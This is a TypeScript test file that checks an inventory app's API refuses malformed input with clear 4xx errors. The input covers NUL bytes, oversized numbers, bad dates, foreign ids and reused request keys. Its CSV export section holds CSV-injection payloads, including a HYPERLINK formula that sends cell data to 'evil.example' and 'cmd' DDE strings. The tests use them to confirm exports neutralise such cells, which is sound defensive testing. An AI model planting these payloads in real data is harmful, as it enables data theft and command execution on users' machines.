import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Client, type Reply } from "./client";
import { startTestServer, type TestServer } from "./helpers";

// The malformed requests a hostile visitor with only a /demo session sent (issue 13), each of
// which once answered 500: each now gets a 4xx whose message says what was wrong, and writes
// nothing.
let server: TestServer;
let visitor: Client;
let stranger: Client;
let base: string;
let strangerBase: string;
let item: { id: string; baseUnit: string };
let locationId: string;
let supplierId: string;

async function openDemo(client: Client): Promise<string> {
  expect((await client.get("/demo")).status).toBe(303);
  return (await client.session()).body.currentWorkspaceId;
}

function expectRefusal(reply: Reply, status: number, message: RegExp): void {
  expect(reply.status, JSON.stringify(reply.body)).toBe(status);
  expect(reply.body.message).toMatch(message);
}

beforeAll(async () => {
  server = await startTestServer();
  visitor = new Client(server.url);
  stranger = new Client(server.url);
  base = `/api/w/${await openDemo(visitor)}`;
  strangerBase = `/api/w/${await openDemo(stranger)}`;
  const items = (await visitor.get(`${base}/items?limit=5`)).body;
  item = items.items?.[0] ?? items[0];
  locationId = (await visitor.get(`${base}/locations`)).body[0].id;
  supplierId = (await visitor.get(`${base}/suppliers`)).body[0].id;
});
afterAll(async () => {
  await server?.close();
});

const NUL = /invisible control character \(such as NUL\)/;

describe("a NUL byte or a control character", () => {
  it("is refused in text fields, naming the field, and nothing is written", async () => {
    const cases: [string, string, unknown][] = [
      ["PATCH", "/api/me", { name: "Chef\u0000" }],
      ["POST", `${base}/locations`, { name: "Pier\u0000", timeZone: "Europe/Paris" }],
      ["POST", `${base}/categories`, { name: "Herbs\u0000" }],
      ["POST", `${base}/suppliers`, { name: "Fresh\u0000Farms" }],
      ["POST", `${base}/locations/${locationId}/closures`, { day: "2026-12-25", name: "\u0000" }],
      ["POST", `${base}/locations/${locationId}/storage-areas`, { name: "Cellar\u001b[31m" }],
    ];
    for (const [method, path, body] of cases) {
      const reply = await visitor.request(method, path, body);
      expect(reply.status, `${method} ${path}: ${JSON.stringify(reply.body)}`).toBe(400);
      expect(reply.body.message).toMatch(NUL);
    }
    const suppliers = (await visitor.get(`${base}/suppliers`)).body;
    expect(suppliers.some((s: { name: string }) => s.name.startsWith("Fresh\u0000"))).toBe(false);
  });

  it("is refused in search filters and the address, with the place named", async () => {
    for (const path of [
      `${base}/items?search=to%00mato`,
      `${base}/stock?search=%00`,
      `${base}/movements?from=2026-01-01%00`,
      `${base}/purchases?buyer=%00`,
    ]) {
      const reply = await visitor.get(path);
      expect(reply.status, path).toBe(400);
      expect(reply.body.message, path).toMatch(NUL);
    }
    expectRefusal(await visitor.get(`${base}/items/%00`), 400, /address part/);
  });

  it("keeps line breaks in notes but not in a name", async () => {
    const created = await visitor.post(`${base}/suppliers`, {
      name: "Line Break Farm",
      notes: "Deliver to the back door.\nRing twice.",
    });
    expect(created.status).toBe(201);
    expectRefusal(
      await visitor.post(`${base}/suppliers`, { name: "Line\nBreak" }),
      400,
      /control character/,
    );
  });
});

describe("numbers larger than their columns hold", () => {
  const huge = "99999999999999.999999";
  it("are refused with the limit in words", async () => {
    const cases: [string, string, unknown, RegExp][] = [
      [
        "POST",
        `${base}/stock/adjustments`,
        {
          itemId: item.id,
          locationId,
          quantity: huge,
          unit: item.baseUnit,
          direction: "add",
          reason: "found",
        },
        /too large or too precise: at most 10 digits before the point/,
      ],
      [
        "PATCH",
        `${base}/suppliers/${supplierId}`,
        { minimumOrder: huge },
        /minimum order is too large or too precise: at most 12 digits/,
      ],
      [
        "PATCH",
        `${base}/settings/purchasing`,
        { approvalLimit: "1000000000000" },
        /approval limit is too large or too precise/,
      ],
      [
        "POST",
        `${base}/suppliers/${supplierId}/items`,
        { itemId: item.id, unit: item.baseUnit, price: "12345678901.5" },
        /price is too large or too precise: at most 10 digits before the point and 4 after/,
      ],
    ];
    for (const [method, path, body, message] of cases) {
      const reply = await visitor.request(method, path, body);
      expect(reply.status, `${method} ${path}: ${JSON.stringify(reply.body)}`).toBe(400);
      expect(reply.body.message).toMatch(message);
    }
  });

  it("that only overflow after a unit conversion get a 422, not a 500", async () => {
    // 9,999,999,999 cases of 99,999,999 each do not fit numeric(20,6).
    const packed = await visitor.post(`${base}/items`, {
      name: `Bulk salt ${randomUUID().slice(0, 6)}`,
      baseUnit: "kg",
      packs: [{ name: "pallet", quantity: "9999999999", unit: "kg" }],
      parLevels: [],
      storageAreaIds: [],
      barcodes: [],
      notes: "",
    });
    expect(packed.status, JSON.stringify(packed.body)).toBe(201);
    const reply = await visitor.post(`${base}/stock/receipts`, {
      itemId: packed.body.id,
      locationId,
      quantity: "9999999999",
      unit: "pallet",
    });
    expectRefusal(reply, 422, /too large to record/);
  });
});

describe("dates", () => {
  it("outside the years 1900 to 2199 are refused", async () => {
    const invoice = (await visitor.get(`${base}/invoices`)).body.rows?.[0];
    const cases: [string, string, unknown?][] = [
      ["POST", `${base}/locations/${locationId}/closures`, { day: "0000-01-01" }],
      ["GET", `${base}/movements?from=0000-01-01`],
      ["GET", `${base}/purchases?dueTo=0000-01-01`],
      ["GET", `${base}/purchases/export?dueFrom=0000-01-01`],
    ];
    if (invoice)
      cases.push([
        "POST",
        `${base}/invoices/${invoice.id}/payments`,
        { amount: "1", paidOn: "0000-01-01", method: "cash" },
      ]);
    for (const [method, path, body] of cases) {
      const reply = await visitor.request(method, path, body);
      expect(reply.status, `${method} ${path}: ${JSON.stringify(reply.body)}`).toBe(400);
      expect(reply.body.message).toMatch(/between the years 1900 and 2199/);
    }
  });
});

describe("ids", () => {
  it("in upper case find the same record", async () => {
    const upper = item.id.toUpperCase();
    const read = await visitor.get(`${base}/items/${upper}`);
    expect(read.status).toBe(200);
    expect(read.body.id).toBe(item.id);
    const renamed = await visitor.patch(`${base}/items/${upper}`, { notes: "Checked." });
    expect(renamed.status, JSON.stringify(renamed.body)).toBe(200);
    const workspaceUpper = base.replace(/[0-9a-f-]{36}$/, (id) => id.toUpperCase());
    expect((await visitor.get(`${workspaceUpper}/items/${upper}`)).status).toBe(200);
  });

  it("unknown or of another workspace, in an invoice or an order, get a 4xx naming the field", async () => {
    const strangerLocation = (await stranger.get(`${strangerBase}/locations`)).body[0].id;
    const strangerItem = (await stranger.get(`${strangerBase}/items?limit=1`)).body.items[0].id;
    for (const foreignLocation of [randomUUID(), strangerLocation]) {
      const invoice = await visitor.post(`${base}/invoices`, {
        supplierId,
        locationId: foreignLocation,
        effectiveDate: "2026-11-02",
        totalExclTax: "10",
        totalInclTax: "10",
      });
      expectRefusal(invoice, 422, /location given as "locationId" does not exist/);
    }
    for (const foreignItem of [randomUUID(), strangerItem]) {
      const order = await visitor.post(`${base}/orders`, {
        supplierId,
        locationId,
        lines: [{ itemId: foreignItem, unit: "kg", quantity: "1", unitPrice: "1" }],
      });
      expect(order.status, JSON.stringify(order.body)).toBeGreaterThanOrEqual(400);
      expect(order.status).toBeLessThan(500);
      expect(order.body.message).toMatch(/item/i);
    }
  });
});

describe("a request key", () => {
  const waste = (requestKey: string, quantity: string) =>
    visitor.post(`${base}/stock/waste`, {
      itemId: item.id,
      locationId,
      quantity,
      unit: item.baseUnit,
      reason: "spoiled",
      requestKey,
    });

  it("sent again with the same details returns the first answer and records once", async () => {
    const key = randomUUID();
    const first = await waste(key, "1");
    const again = await waste(key, "1");
    expect(first.status).toBe(201);
    expect(again.status).toBe(201);
    expect(again.body).toEqual(first.body);
  });

  it("reused with another quantity or for another action is refused with a 409", async () => {
    const key = randomUUID();
    expect((await waste(key, "1")).status).toBe(201);
    expectRefusal(await waste(key, "2"), 409, /already used for something else/);
    const receipt = await visitor.post(`${base}/stock/receipts`, {
      itemId: item.id,
      locationId,
      quantity: "1",
      unit: item.baseUnit,
      requestKey: key,
    });
    expectRefusal(receipt, 409, /already used for something else/);
  });
});

describe("CSV exports", () => {
  // Cells a spreadsheet would run as formulas (OWASP, "CSV Injection").
  const payloads = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
  ];

  it("neutralise every cell that could start a formula, in every CSV Larder exports", async () => {
    const supplier = await visitor.post(`${base}/suppliers`, { name: payloads[1] });
    expect(supplier.status, JSON.stringify(supplier.body)).toBe(201);
    for (const name of payloads) {
      const created = await visitor.post(`${base}/items`, {
        name,
        baseUnit: "kg",
        packs: [],
        parLevels: [],
        storageAreaIds: [],
        barcodes: [],
        notes: "",
      });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
    }
    const invoice = await visitor.post(`${base}/invoices`, {
      supplierId: supplier.body.id,
      number: "@INV-1",
      effectiveDate: "2026-11-02",
      totalExclTax: "10",
      totalInclTax: "10",
      notes: "=1+1",
    });
    expect(invoice.status, JSON.stringify(invoice.body)).toBe(201);

    const exports = [
      `${base}/exports/items?format=csv`,
      `${base}/purchases/export?format=csv&period=last-year`,
      `${base}/accounting/export?system=quickbooks&what=bills`,
      `${base}/accounting/export?system=xero&what=bills`,
    ];
    for (const path of exports) {
      const reply = await visitor.get(path);
      expect(reply.status, path).toBe(200);
      const text = String(reply.body);
      // No cell (at a line start or after a comma, quoted or not) begins with a formula sign.
      const cells = text
        .split(/\r?\n/)
        .flatMap((line) => line.match(/(?<=^|,)("[^"]*(?:""[^"]*)*"|[^,]*)/g) ?? []);
      for (const cell of cells) {
        const value = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
        if (/^[-+]?\d+(\.\d+)?$/.test(value)) continue; // a plain number stays a number
        expect(value, `${path}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const items = String((await visitor.get(`${base}/exports/items?format=csv`)).body);
    expect(items).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(items).toContain(`"'-2+3"`);
    const bills = String(
      (await visitor.get(`${base}/accounting/export?system=quickbooks&what=bills`)).body,
    );
    expect(bills).toContain(`"'=cmd|' /C calc'!A0"`);
    expect(bills).toContain(`"'@INV-1"`);
    // Amounts keep their minus sign: Xero's payments are negative numbers.
    const payments = await visitor.get(`${base}/accounting/export?system=xero&what=payments`);
    expect(String(payments.body)).toMatch(/,-\d+\.\d{2},/);
  });
});
